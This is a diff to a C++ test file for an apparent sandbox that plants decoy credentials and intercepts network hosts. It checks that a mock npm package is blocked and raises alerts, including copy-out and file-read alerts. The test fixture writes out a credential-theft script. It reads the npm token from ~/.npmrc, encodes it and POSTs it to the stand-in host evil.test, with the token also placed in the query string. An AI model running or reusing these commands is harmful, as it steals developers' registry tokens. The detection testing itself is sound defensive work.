@@ -434,7 +434,7 @@ TEST_F(InterceptedHosts, ADecoyTokenAPackageSendsOutIsRefusedAndRaisesAlerts) {
       "T=$(sed -n 's/.*_authToken=//p' ~/.npmrc)\n"
       "printf 'd=%s' \"$(printf %s \"$T\" | base64 -w0)\" > /tmp/d1\n"
       "printf '{\"npmrc\":\"%s\"}' \"$T\" > /tmp/d2\n"
-      "curl -s -X POST http://evil.test/collect -d @/tmp/d1\n"
+      "curl -s -X POST \"http://evil.test/collect?t=$T\" -d @/tmp/d1\n"
       "curl -s -X POST https://api.anthropic.com/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\" "
       "-H 'content-type: application/json' -d @/tmp/d2\n"
       "exit 0\nEOF\nnpm pack --silent >/dev/null && ls /tmp/evil/evil-1.0.0.tgz");
@@ -455,11 +455,24 @@ TEST_F(InterceptedHosts, ADecoyTokenAPackageSendsOutIsRefusedAndRaisesAlerts) {
   auto audit = Cli({"audit", "trip", "--json"}).out;
   EXPECT_EQ(Count(audit, "\"decoys\":[\"npm-token ~/.npmrc\"]"), 2) << audit;
   EXPECT_EQ(audit.find(token), std::string::npos) << "the audit holds a decoy's value";
+  // A decoy file copied out with workspace cp: it arrives (the user asked)
+  // and raises a copy-out alert.
+  char out_tmpl[] = "/tmp/wsit-cpout-XXXXXX";
+  const std::string out_dir = mkdtemp(out_tmpl);
+  auto cp = Cli({"cp", "trip:/home/user/.npmrc", out_dir + "/npmrc"});
+  EXPECT_EQ(cp.code, 0) << cp.err;
+  std::ifstream copied(out_dir + "/npmrc");
+  std::string copied_text((std::istreambuf_iterator<char>(copied)), {});
+  EXPECT_NE(copied_text.find(token), std::string::npos);
+  fs::remove_all(out_dir);
   // alerts --json: both, with the process and the exec.
   auto alerts = Cli({"alerts", "trip", "--json"});
   ASSERT_EQ(alerts.code, 0) << alerts.err;
   EXPECT_EQ(Count(alerts.out, "\"channel\":\"egress\""), 1) << alerts.out;
   EXPECT_EQ(Count(alerts.out, "\"channel\":\"request\""), 1) << alerts.out;
+  EXPECT_NE(alerts.out.find("\"channel\":\"copy-out\",\"target\":\"/home/user/.npmrc\""),
+            std::string::npos)
+      << alerts.out;
   // The agent saw the reads too (fanotify): the test's own cat, and the
   // postinstall's sed, each with its exec; npm's own reads are not alerts.
   EXPECT_NE(alerts.out.find("\"channel\":\"file-read\",\"target\":\"/home/user/.npmrc\","
